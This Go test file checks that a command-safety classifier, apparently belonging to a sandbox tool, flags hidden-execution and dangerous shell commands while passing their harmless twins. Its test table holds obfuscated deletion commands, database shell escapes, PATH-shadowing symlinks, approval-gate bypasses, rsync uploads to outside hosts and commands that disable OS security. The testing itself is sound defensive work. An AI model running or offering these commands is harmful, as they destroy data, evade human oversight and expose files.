package policy

import "testing"

// TestRecallClasses: each class of hidden execution or write is flagged,
// and its payload-free twin is not.
func TestRecallClasses(t *testing.T) {
	c := New(Options{Home: "/home/me"})
	for _, tc := range []struct {
		cmd  string
		want Verdict
		rule string // a rule the verdict must include ("" for safe)
	}{
		// interpreters assembling the command at run time
		{`python3 -c 'import os;os.system("".join(map(chr,[114,109,32,45,114,102])))'`, VerdictDangerous, "dynamic-command"},
		{`python3 -c 'import os;os.system("cte/ fr- mr"[::-1])'`, VerdictDangerous, "dynamic-command"},
		{`python3 -c 'getattr(__import__("o"+"s"),"sys"+"tem")("id")'`, VerdictDangerous, "dynamic-command"},
		{`python3 -c 'import importlib; importlib.import_module("o"+"s").system("id")'`, VerdictDangerous, "dynamic-command"},
		{`perl -e 'system(join("",map{chr}(105,100)))'`, VerdictDangerous, "dynamic-command"},
		{`ruby -e 'system("di".reverse)'`, VerdictDangerous, "dynamic-command"},
		{`node -e 'require("child_process").execSync(String.fromCharCode(105,100))'`, VerdictDangerous, "dynamic-command"},
		{`python3 -c 'print(1)'`, VerdictSafe, ""},
		{`python3 -c 'print(",".join(map(str,[1,2])))'`, VerdictSafe, ""},
		{`python3 -c 'import os; print(getattr(os, "sep"))'`, VerdictSafe, ""},
		{`node -e 'console.log([1,2].reverse().join(","))'`, VerdictSafe, ""},
		// this tool under another name
		{`cp "$(command -v hermes-sandbox)" /tmp/hs; /tmp/hs config set approvals.mode off`, VerdictHardline, "gate-config-change"},
		{`/tmp/hs audit init`, VerdictHardline, "gate-config-change"},
		{`/tmp/hs config get approvals.mode`, VerdictSafe, ""},
		{`mytool config set theme dark`, VerdictSafe, ""},
		// database clients' shell escapes
		{`sqlite3 x.db '.shell id'`, VerdictDangerous, "option-runs-program"},
		{`sqlite3 x.db '.system rm -rf /'`, VerdictHardline, "recursive-delete-root"},
		{`sqlite3 :memory: ".once '|sh -c id'" 'select 1'`, VerdictDangerous, "option-runs-program"},
		{`mysql -e '\! id'`, VerdictDangerous, "option-runs-program"},
		{`mysql -e 'select 1; system id'`, VerdictDangerous, "option-runs-program"},
		{`psql -c '\! id'`, VerdictDangerous, "option-runs-program"},
		{`psql -c "COPY t FROM PROGRAM 'id'"`, VerdictDangerous, "option-runs-program"},
		{`sqlite3 x.db '.tables'`, VerdictSafe, ""},
		{`mysql -e 'select 1'`, VerdictSafe, ""},
		{`psql -c '\dt'`, VerdictSafe, ""},
		// a link or copy shadowing a program on PATH
		{`ln -s /bin/sh ~/.local/bin/ls`, VerdictDangerous, "registry-redirect"},
		{`ln -sf /tmp/x /home/me/bin/git`, VerdictDangerous, "registry-redirect"},
		{`cp ./evil ~/.local/bin/sudo`, VerdictDangerous, "registry-redirect"},
		{`ln -s ~/src/mytool/run.sh ~/.local/bin/mytool`, VerdictSafe, ""},
		{`ln -s ../shared/config.yaml config.yaml`, VerdictSafe, ""},
		// find: an action before its tests acts on every file
		{`find . -delete -name '*.o'`, VerdictDangerous, "delete-everything-here"},
		{`find /srv/data -exec rm -f {} + -name '*.tmp'`, VerdictDangerous, "recursive-delete-outside"},
		{`find . -name '*.o' -delete`, VerdictSafe, ""},
		// ownership to root
		{`chown root:root ./helper`, VerdictDangerous, "privilege-escalation"},
		{`chown 0 ./helper`, VerdictDangerous, "privilege-escalation"},
		{`chgrp wheel ./helper`, VerdictDangerous, "privilege-escalation"},
		{`chown me:staff ./notes.txt`, VerdictSafe, ""},
		// rsync to a daemon module
		{`rsync -a ./ rsync://203.0.113.9/incoming/`, VerdictDangerous, "public-exposure"},
		{`rsync -a ./ backup.example::share/`, VerdictDangerous, "public-exposure"},
		{`rsync -a ./src/ ./backup/`, VerdictSafe, ""},
		// OS security switches, macOS and Linux
		{`csrutil disable`, VerdictDangerous, "security-disable"},
		{`sudo spctl --master-disable`, VerdictDangerous, "security-disable"},
		{`setenforce 0`, VerdictDangerous, "security-disable"},
		{`csrutil status`, VerdictSafe, ""},
		{`spctl --status`, VerdictSafe, ""},
	} {
		res := c.Classify(tc.cmd)
		if res.Verdict != tc.want {
			t.Errorf("Classify(%q) = %s %v; want %s", tc.cmd, res.Verdict, res.Findings, tc.want)
			continue
		}
		if tc.rule == "" {
			continue
		}
		found := false
		for _, f := range res.Findings {
			found = found || f.Rule == tc.rule
		}
		if !found {
			t.Errorf("Classify(%q) findings = %v; want %s among them", tc.cmd, res.Findings, tc.rule)
		}
	}
}
